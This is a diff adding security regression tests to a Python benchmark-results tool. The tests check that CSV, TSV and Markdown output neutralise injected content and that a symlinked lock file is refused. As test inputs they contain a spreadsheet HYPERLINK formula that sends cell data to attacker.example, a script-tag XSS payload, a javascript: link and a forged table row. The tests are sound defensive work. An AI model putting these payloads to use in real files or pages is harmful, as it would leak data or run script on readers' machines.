@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import hashlib
 import os
+import re
 import stat
 from pathlib import Path
 
@@ -84,3 +85,69 @@ def test_written_files_honour_the_umask_and_stale_temporaries_go(data_copy, tmp_
     assert result.exit_code == 0
     assert stat.S_IMODE((out / "graph.nq").stat().st_mode) == 0o644
     assert not stale.exists() and sorted(p.name for p in out.iterdir()) == ["graph.nq"]
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"CoreWeave")'
+
+
+@pytest.mark.parametrize("fmt,separator", [("csv", ","), ("tsv", "\t"), ("sparql-csv", ",")])
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(data_copy, fmt, separator):
+    """Issue 33: a system name that is a formula reaches CSV and TSV as text (OWASP: prefixed with
+    '), and a negative number stays a number."""
+    import csv
+    import io
+    import json
+
+    path = data_copy / "benchmarks" / "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-server.json"
+    record = json.loads(path.read_text())
+    record["system_name"] = FORMULA
+    path.write_text(json.dumps(record, indent=2))
+    result = cli("results", "--where", "suite=mlperf-inference-v6.1", "--columns", "claim,platform,value",
+                 "--format", fmt, "--limit", "0", "--data", data_copy)  # fmt: skip
+    assert result.exit_code == 0, result.output
+    cells = [c for row in csv.reader(io.StringIO(result.stdout), delimiter=separator) for c in row]
+    assert "'" + FORMULA in cells and FORMULA not in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+
+
+def test_csv_cell_keeps_numbers_and_text_and_disarms_formulas():
+    from benchkg.answers.results import csv_cell
+
+    assert [csv_cell(t) for t in ("-3.5", "+1e3", "-", "-x", "@a", "\tcmd", "a=b")] == [
+        "-3.5", "+1e3", "'-", "'-x", "'@a", "'\tcmd", "a=b"
+    ]  # fmt: skip
+
+
+def test_a_lock_that_is_a_link_is_refused_and_its_target_kept(data_copy, tmp_path):
+    """Issue 33: a cloned repository's .benchkg/…/lock that links elsewhere: the build refuses it
+    (exit 2, naming the link) and writes nothing into the file it points at."""
+    first = cli("build", "--data", data_copy)
+    assert first.exit_code == 0, first.output
+    locks = list((data_copy.parent / ".benchkg").rglob("lock"))
+    assert locks, "the store keeps its lock beside it"
+    target = tmp_path / "precious.txt"
+    target.write_text("keep me\n")
+    for lock in locks:
+        lock.unlink()
+        lock.symlink_to(target)
+    result = cli("build", "--data", data_copy)
+    assert result.exit_code == 2 and "symbolic link" in result.stderr, result.output
+    assert target.read_text() == "keep me\n"
+
+
+def test_markdown_shows_a_record_s_html_and_links_as_text(data_copy):
+    """Issue 33: raw HTML or a Markdown link in a record reaches --format markdown escaped, one row per
+    line: rendered, nothing runs and nothing links."""
+    import json
+
+    path = data_copy / "benchmarks" / "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-server.json"
+    record = json.loads(path.read_text())
+    record["system_name"] = "<script>alert(1)</script>\n| forged | row |\n[click](javascript:alert(2))"
+    path.write_text(json.dumps(record, indent=2))
+    result = cli("results", "--where", "suite=mlperf-inference-v6.1", "--columns", "claim,platform",
+                 "--format", "markdown", "--limit", "0", "--data", data_copy)  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert "<script" not in result.stdout and "&lt;script&gt;" in result.stdout
+    assert not re.search(r"(?<!\\)\]\(javascript", result.stdout) and "\\[click\\]" in result.stdout
+    rows = [line for line in result.stdout.splitlines() if "coreweave-gb200-nvl72-llama2-70b-server" in line]
+    assert len(rows) == 1 and rows[0].count(" | ") == 1, "one row, two cells: the forged row is text"
